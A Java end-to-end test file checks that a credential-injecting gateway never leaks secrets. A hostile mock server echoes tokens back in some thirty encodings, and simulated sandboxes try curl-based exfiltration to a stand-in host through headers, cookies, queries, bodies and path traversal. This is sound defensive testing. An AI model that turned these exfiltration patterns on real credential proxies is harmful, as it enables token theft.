package io.sallyport.cli.endtoend;

import static io.sallyport.testkit.junit.RequireTool.require;
import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.testkit.Answer;
import io.sallyport.testkit.Client;
import io.sallyport.testkit.ReceivedRequest;
import java.io.IOException;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer.OrderAnnotation;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * A secret shows nowhere: hostile targets send it back in every form, a hostile sandbox tries to get it to other
 * places, and at the end every byte that the gateway wrote is searched.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(OrderAnnotation.class)
class CredentialLeaksTest {
    private static final String FORGE = "ghs_0f3c77e1Kq9ZtReal/Secret+Value==";
    private static final String MODEL = "sk-live-7d21c4e9a0b5RealModelKey";
    private static final String QUERY = "AIzaQueryKey0123456789RealValue";

    private static final String CONTENT = "cnt_5b2e\\Q\"real/Value+of=Bodies0";

    private static final String PROVIDERS = """
              forge:
                secret: {file: forge.key}
                endpoints: ["https://api.test/forge/**"]
                variables: [FORGE_TOKEN]
                placeholder: {before: "ghs_", length: 40}
              injected:
                secret: {file: forge.key}
                endpoints: ["https://api.test/injected/**"]
                inject: {basic_user: x-access-token}
              model:
                secret: {file: model.key}
                endpoints: ["https://api.test/model/**"]
                methods: [GET, POST]
                inject: {header: X-Api-Key}
                own: refuse
              strict:
                secret: {file: model.key}
                endpoints: ["https://api.test/strict/**"]
                inject: {header: X-Api-Key}
                in_answers: refuse
              maps:
                secret: {file: query.key}
                endpoints: ["https://api.test/maps/**"]
                inject: {query: key}
              content:
                secret: {file: content.key}
                endpoints: ["https://api.test/content/**"]
                variables: [CONTENT_TOKEN]
                in_bodies: fill
              bot:
                secret: {file: query.key}
                endpoints: ["https://api.test/bot/**"]
                inject: {path: "/bot{credential}"}
              unread:
                secret: {file: missing.key}
                endpoints: ["https://api.test/unread/**"]
                inject: {header: Authorization}
            """;

    private static final String POLICY = """
            version: 1
            network_policies:
              api:
                endpoints:
                  - {host: api.test, port: 443, protocol: rest, access: full}
                  - {host: api.test, port: 80, protocol: rest, access: full}
                credentials: [forge, injected, model, strict, maps, content, bot, unread]
              other:
                endpoints:
                  - {host: other.test, port: 443, protocol: rest, access: full}
            """;

    @TempDir
    static Path folder;

    private final List<String> tried = new ArrayList<>();
    private CredentialSandbox sandboxes;

    @BeforeAll
    void start() throws Exception {
        require("curl");
        sandboxes = CredentialSandbox.start(
                folder,
                CredentialLeaksTest::hostile,
                Map.of("forge.key", FORGE, "model.key", MODEL, "query.key", QUERY, "content.key", CONTENT),
                "providers:\n" + PROVIDERS,
                "api.test",
                "other.test");
        sandboxes.put("sb-1", POLICY);
        sandboxes.put("sb-2", POLICY);
        sandboxes.put("sb-3", POLICY.replaceAll(" *credentials:.*\n", ""));
    }

    @AfterAll
    void stop() {
        sandboxes.close();
    }

    /** Sends back what it was given, in the way that the last segment of the path names. */
    static Answer hostile(ReceivedRequest request) {
        String said = String.valueOf(secretOf(request));
        String way = request.path().substring(request.path().lastIndexOf('/') + 1);
        byte[] bytes = said.getBytes(StandardCharsets.UTF_8);
        return switch (way) {
            case "body" -> ok("", "you said " + said + "!");
            case "twice" -> ok("", said + said + " and " + said);
            case "bytewise" ->
                chunked(said.chars().mapToObj(Character::toString).toList());
            case "halves" ->
                chunked(List.of("x" + said.substring(0, said.length() / 2), said.substring(said.length() / 2)));
            case "almost" -> chunked(List.of(said.substring(0, said.length() - 1), "#", said));
            case "header" -> ok("X-Echo: " + said + "\r\n", "");
            case "cookie" -> ok("Set-Cookie: t=" + said + "; Path=/\r\n", "");
            case "trailer" ->
                new Answer.Raw(
                        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n1\r\nx\r\n0\r\nX-T: "
                                + said + "\r\n\r\n",
                        false);
            case "redirect" -> status("302 Found", "Location: https://other.test/x?k=" + said + "\r\n");
            case "redirect-percent" ->
                status("302 Found", "Location: https://other.test/x?k=" + percent(said) + "\r\n");
            case "challenge" -> status("401 Unauthorized", "WWW-Authenticate: Bearer realm=\"" + said + "\"\r\n");
            case "interim" ->
                new Answer.Raw(
                        "HTTP/1.1 103 Early Hints\r\nLink: <" + said
                                + ">\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
                        false);
            case "reason" -> new Answer.Raw("HTTP/1.1 200 " + said + "\r\nContent-Length: 0\r\n\r\n", false);
            case "malformed" -> new Answer.Raw("HTTP/1.1 200 OK\r\n" + said + "\r\n\r\n", true);
            case "cut" -> new Answer.Cut(1_000, "begin " + said);
            case "error" -> status("500 Internal Server Error", "X-Debug: " + said + "\r\n");
            case "base64-0" -> ok("", base64("", said));
            case "base64-1" -> ok("", base64("a", said));
            case "base64-2" -> ok("", base64("ab", said));
            case "json-escaped" -> ok("", "{\"t\":\"" + escaped(said).replace("/", "\\/") + "\"," + escaped(said));
            case "form" -> ok("", "a=1&t=" + percent(said));
            case "url-safe" -> ok("", base64("", said).replace('+', '-').replace('/', '_'));
            case "basic" -> ok("", base64("x-access-token:", said));
            case "percent" -> ok("", percent(said));
            case "percent-small" -> ok("", percentSmall(said));
            case "base64-header" -> ok("X-Echo: " + base64("", said) + "\r\n", "");
            case "json" -> ok("Content-Type: application/json\r\n", "{\"token\":\"" + said + "\"}");
            case "events" -> ok("Content-Type: text/event-stream\r\n", "data: " + said + "\n\n");
            case "gzip" -> ok("Content-Encoding: gzip\r\n", new String(bytes, StandardCharsets.ISO_8859_1));
            case "large" -> ok("", "y".repeat(70_000) + said + "y".repeat(70_000));
            default -> ok("", "fine");
        };
    }

    private static String secretOf(ReceivedRequest request) {
        String body = request.body().text();
        if (body.startsWith("{\"t\":\"")) {
            return body.substring(6, body.length() - 2).replace("\\\"", "\"").replace("\\\\", "\\");
        }
        if (body.startsWith("t=")) {
            return URLDecoder.decode(body.substring(2), StandardCharsets.UTF_8);
        }
        String key = request.header("X-Api-Key");
        String authorization = request.header("Authorization");
        String token = request.header("X-Amz-Security-Token");
        if (token != null) {
            return token + " " + authorization;
        }
        if (authorization != null && authorization.startsWith("Basic ")) {
            String pair = new String(Base64.getDecoder().decode(authorization.substring(6)), StandardCharsets.UTF_8);
            return pair.substring(pair.indexOf(':') + 1);
        }
        if (request.path().startsWith("/botAIza")) {
            return request.path().substring("/bot".length(), request.path().lastIndexOf('/'));
        }
        String query = request.query().startsWith("key=")
                ? URLDecoder.decode(request.query().substring(4), StandardCharsets.UTF_8)
                : "nothing";
        return key != null ? key : authorization != null ? authorization.substring("Bearer ".length()) : query;
    }

    private static Answer ok(String fields, String body) {
        return new Answer.Raw(
                "HTTP/1.1 200 OK\r\n" + fields + "Content-Length: " + body.length() + "\r\n\r\n" + body, false);
    }

    private static Answer status(String line, String fields) {
        return new Answer.Raw("HTTP/1.1 " + line + "\r\n" + fields + "Content-Length: 0\r\n\r\n", false);
    }

    private static Answer chunked(List<String> chunks) {
        return new Answer.Chunked(chunks);
    }

    private static String base64(String before, String secret) {
        return Base64.getEncoder().encodeToString((before + secret).getBytes(StandardCharsets.UTF_8));
    }

    private static String percent(String secret) {
        return secret.replace("/", "%2F")
                .replace("+", "%2B")
                .replace("=", "%3D")
                .replace("\\", "%5C")
                .replace("\"", "%22");
    }

    private static String escaped(String secret) {
        return secret.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    private static String percentSmall(String secret) {
        return percent(secret)
                .replace("%2F", "%2f")
                .replace("%2B", "%2b")
                .replace("%3D", "%3d")
                .replace("%5C", "%5c");
    }

    static final List<String> WAYS = List.of(
            "body",
            "twice",
            "bytewise",
            "halves",
            "almost",
            "header",
            "cookie",
            "trailer",
            "redirect",
            "redirect-percent",
            "challenge",
            "interim",
            "reason",
            "malformed",
            "cut",
            "error",
            "base64-0",
            "base64-1",
            "base64-2",
            "url-safe",
            "basic",
            "percent",
            "percent-small",
            "json-escaped",
            "form",
            "base64-header",
            "json",
            "events",
            "gzip",
            "large");

    /** A placeholder, an injected field, Basic credentials, a member of the query, a body: 30 ways back for each. */
    @Test
    @Order(1)
    void noTargetCanSendItBack() {
        String placeholder = sandboxes.variable("sb-1", "FORGE_TOKEN");
        String content = sandboxes.variable("sb-1", "CONTENT_TOKEN");
        for (String way : WAYS) {
            for (String protocol : List.of("--http1.1", "--http2")) {
                echoed("forge/" + way, protocol, "-H", "Authorization: Bearer " + placeholder);
            }
            echoed("injected/" + way);
            echoed("model/" + way);
            echoed("maps/" + way);
            echoed("content/" + way, "-H", "Content-Type: application/json", "-d", "{\"t\":\"" + content + "\"}");
            echoed("content/" + way, "-d", "t=" + content);
        }
        assertThat(received("/forge/body")).contains(FORGE);
        assertThat(received("/injected/body")).contains(base64("x-access-token:", FORGE));
        assertThat(received("/model/body")).contains(MODEL);
        assertThat(received("/maps/body")).contains(QUERY);
        assertThat(bodies("/content/body"))
                .containsExactly("{\"t\":\"" + escaped(CONTENT) + "\"}", "t=" + percent(CONTENT));
    }

    private List<String> bodies(String path) {
        return sandboxes.origin().received().stream()
                .filter(request -> request.path().equals(path))
                .map(request -> request.body().text())
                .toList();
    }

    @Test
    @Order(1)
    void noTargetCanSendAPathBack() {
        for (String way : WAYS) {
            Client.Ended ended = curl("sb-1", "https://api.test/bot/" + way);
            sandboxes.hidesSecrets("the answer of a path by " + way, ended.out() + ended.err());
            assertThat(received("/bot" + QUERY + "/" + way)).isNotEmpty();
            tried.add("bot/" + way);
        }
    }

    /** The same ways where an answer with it is refused: curl fails, or has a refusal, and the record names it. */
    @Test
    @Order(1)
    void anAnswerWithItIsRefusedWhereThatIsSet() throws IOException {
        for (String protocol : List.of("--http1.1", "--http2")) {
            for (String way : WAYS) {
                String path = "strict/" + way;
                Client.Ended ended = curl("sb-1", "https://api.test/" + path, protocol);
                String shown = ended.out() + ended.err();
                sandboxes.hidesSecrets("the answer of " + path, shown);
                boolean hasNone = way.equals("reason");
                boolean isMalformed = way.equals("malformed") || way.equals("gzip") || way.equals("cut");
                assertThat(ended.exit() != 0 || shown.contains("credential_in_answer") || isMalformed)
                        .as(path + " over " + protocol + ": " + shown)
                        .isNotEqualTo(hasNone);
                tried.add(path);
            }
        }
        assertThat(sandboxes.rig().records("http"))
                .filteredOn(record -> record.path("path").asString().equals("/strict/body"))
                .isNotEmpty()
                .allSatisfy(record -> {
                    assertThat(record.path("reason").asString()).isEqualTo("credential_in_answer");
                    assertThat(record.toString()).contains("the secret of strict came back");
                });
    }

    private void echoed(String path, String... more) {
        Client.Ended ended = curl("sb-1", "https://api.test/" + path, more);
        sandboxes.hidesSecrets("the answer of " + path, ended.out() + ended.err());
        assertThat(received("/" + path))
                .as(path + " reached the target with a secret")
                .isNotEmpty();
        tried.add(path);
    }

    private String received(String path) {
        return sandboxes.origin().received().stream()
                .filter(request -> request.path().equals(path))
                .map(request -> request.target() + request.headers())
                .collect(Collectors.joining("\n"));
    }

    private Client.Ended curl(String sandbox, String url, String... more) {
        var command = new ArrayList<>(List.of("curl", "-sS", "-i", "--max-time", "20", url));
        command.addAll(List.of(more));
        return sandboxes.runAs(sandbox, Map.of(), command.toArray(String[]::new));
    }

    /** What a sandbox does to get a secret to where it is not bound, or to be told of it. */
    @Test
    @Order(2)
    void noSandboxCanSendItElsewhere() {
        String mine = sandboxes.variable("sb-1", "FORGE_TOKEN");
        String others = sandboxes.variable("sb-2", "FORGE_TOKEN");
        assertThat(others).isNotEqualTo(mine).hasSameSizeAs(mine).startsWith("ghs_");
        String basic = Base64.getEncoder().encodeToString(("u:" + mine).getBytes(StandardCharsets.UTF_8));
        String nested = mine.chars().mapToObj("%%%02x"::formatted).collect(Collectors.joining());
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-H", "Authorization: Bearer " + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-H", "Authorization: Basic " + basic);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/?a=" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/?a=" + nested);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/?a=" + nested.replace("%", "%25"));
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-H", "Cookie: a=" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-A", mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-e", "https://a.test/" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-d", "a=" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-d", "{\"a\":\"" + mine + "\"}");
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-F", "a=" + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://api.test/forgery", "-H", "X-Token: " + mine);
        refused(
                "sb-1",
                "credential_endpoint_mismatch",
                "https://api.test/forge/../x",
                "--path-as-is",
                "-H",
                "X: " + mine);
        refused("sb-1", "credential_endpoint_mismatch", "https://api.test/FORGE/x", "-H", "X-Token: " + mine);
        refused("sb-1", "credential_endpoint_mismatch", "http://api.test/forge/x", "-H", "X-Token: " + mine);
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-d", "a=" + mine);
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", mine + ": x");
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x?" + mine + "=1");
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + mine.substring(4));
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: ghp_" + mine.substring(4));
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + mine + "A");
        refused(
                "sb-1",
                "credential_unresolved",
                "https://api.test/forge/x",
                "-H",
                "X-Token: " + mine.toUpperCase(Locale.ROOT));
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + others);
        refused("sb-2", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + mine);
        refused("sb-3", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + mine);
        refused(
                "sb-3",
                "credential_unresolved",
                "https://api.test/forge/x",
                "-H",
                "X: openshell:resolve:env:FORGE_TOKEN");
        refused("sb-1", "credential_unresolved", "https://api.test/forge/x", "-H", "X: openshell:resolve:env:FORGE");
        refused(
                "sb-1",
                "credential_endpoint_mismatch",
                "https://other.test/",
                "-H",
                "X: openshell:resolve:env:FORGE_TOKEN");
        refused("sb-1", "credential_unavailable", "https://api.test/unread/x");
        String content = sandboxes.variable("sb-1", "CONTENT_TOKEN");
        for (String body : List.of(
                "{\"" + content + "\":1}",
                "{\"t\":\"the key is " + content + "\"}",
                "{\"t\":\"{\\\"t\\\":\\\"" + content + "\\\"}\"}",
                "{\"t\":\"" + content + "\",\"u\":\"" + others + "\"}",
                "{\"t\":\"" + sandboxes.variable("sb-2", "CONTENT_TOKEN") + "\"}",
                "{\"t\":\"" + mine.replace("S", "\\u0053") + "\"}",
                "{'t':'" + content + "'}")) {
            String reason = body.contains("\\u0053") ? "credential_endpoint_mismatch" : "credential_unresolved";
            refused("sb-1", reason, "https://api.test/content/x", "-H", "Content-Type: application/json", "-d", body);
        }
        refused("sb-1", "credential_unresolved", "https://api.test/content/x", "-d", content + "=1");
        refused("sb-1", "credential_unresolved", "https://api.test/content/x", "-d", "t=a+" + content);
        refused("sb-1", "credential_unresolved", "https://api.test/content/x", "-F", "t=" + content);
        refused("sb-1", "credential_endpoint_mismatch", "https://other.test/x", "-d", "t=" + content);
    }

    /** A key of the sandbox's own, where the gateway has one. */
    @Test
    @Order(3)
    void noOtherCredentialPassesToWhereOneIsAttached() {
        for (String field : List.of(
                "Authorization: Bearer own",
                "X-Api-Key: own",
                "x-goog-api-key: own",
                "X_Api_Key: own",
                "Private-Token: own")) {
            refused("sb-1", "foreign_credential", "https://api.test/forge/x", "-H", field);
        }
        refused("sb-1", "foreign_credential", "https://api.test/forge/x?access_token=own");
        refused("sb-1", "foreign_credential", "https://api.test/forge/x?%61ccess_token=own");
        refused("sb-1", "foreign_credential", "https://api.test/model/x", "-H", "X-Api-Key: own");
        refused("sb-1", "foreign_credential", "https://api.test/model/x", "-H", "Authorization: Bearer own");
        Client.Ended replaced = curl("sb-1", "https://api.test/injected/own", "-u", "me:own-password");
        assertThat(replaced.out()).contains("fine");
        assertThat(received("/injected/own"))
                .contains(base64("x-access-token:", FORGE))
                .doesNotContain(base64("me:", "own-password"));
        Client.Ended asked = curl("sb-1", "https://api.test/maps/own?a=1&key=own&%6bey=own&b=2");
        assertThat(asked.out()).contains("fine");
        assertThat(received("/maps/own"))
                .contains("/maps/own?a=1&b=2&key=" + QUERY)
                .doesNotContain("=own");
    }

    private void refused(String sandbox, String reason, String url, String... more) {
        int before = sandboxes.origin().received().size();
        Client.Ended ended = curl(sandbox, url, more);
        String shown = ended.out() + ended.err();
        assertThat(shown).as(url + " " + List.of(more)).contains(reason);
        sandboxes.hidesSecrets("the refusal of " + url, shown);
        assertThat(sandboxes.origin().received().stream().skip(before))
                .as(url + " " + List.of(more))
                .noneMatch(request -> Stream.of(FORGE, CONTENT)
                        .flatMap(secret -> CredentialSandbox.forms(secret).stream())
                        .anyMatch(form -> (request.target()
                                        + request.headers()
                                        + request.body().text())
                                .contains(form)));
        tried.add(url + " " + List.of(more));
    }

    /** A policy without the grant takes the credential away at the next request. */
    @Test
    @Order(4)
    void aPolicyThatGrantsNothingMoreTakesItAway() throws IOException {
        String mine = sandboxes.variable("sb-2", "FORGE_TOKEN");
        assertThat(curl("sb-2", "https://api.test/forge/none", "-H", "X-Token: " + mine)
                        .out())
                .contains("fine");
        sandboxes.put("sb-2", POLICY.replaceAll(" *credentials:.*\n", ""));
        refused("sb-2", "credential_unresolved", "https://api.test/forge/x", "-H", "X-Token: " + mine);
        assertThat(curl("sb-2", "https://api.test/model/plain").out()).contains("fine");
        assertThat(received("/model/plain")).isNotEmpty().doesNotContain(MODEL);
    }

    /** What the gateway tells, and has written, after all of that: answers about itself, metrics, and every file. */
    @Test
    @Order(5)
    void nothingThatTheGatewayWritesHasIt() throws IOException {
        for (String path : List.of("/v1/whoami", "/v1/denials", "/ca.pem", "/tools.json")) {
            sandboxes.hidesSecrets(
                    path, curl("sb-1", "http://sallyport.internal" + path).out());
        }
        sandboxes.hidesSecrets("the file of variables", Files.readString(sandboxes.env("sb-1")));
        sandboxes.hidesSecrets("metrics", sandboxes.rig().metrics());
        sandboxes.hidesSecrets(
                "the sandbox", sandboxes.rig().admin().get(Rig.SB).body().toString());
        assertThat(sandboxes.rig().records("http"))
                .filteredOn(record -> record.path("path").asString().equals("/model/body"))
                .allMatch(record -> record.path("credentials").toString().equals("[\"model\"]"))
                .isNotEmpty();
        assertThat(sandboxes.origin().received())
                .filteredOn(request -> Objects.equals(request.header("Host"), "other.test"))
                .allSatisfy(request -> sandboxes.hidesSecrets("another target", request.target() + request.headers()));
        assertThat(tried).hasSizeGreaterThan(60);
        sandboxes.hidesSecretsInFiles();
        try (Stream<Path> files = Files.list(sandboxes.rig().state())) {
            assertThat(files.map(file -> file.getFileName().toString())).contains("placeholder.key", "audit.jsonl");
        }
    }
}
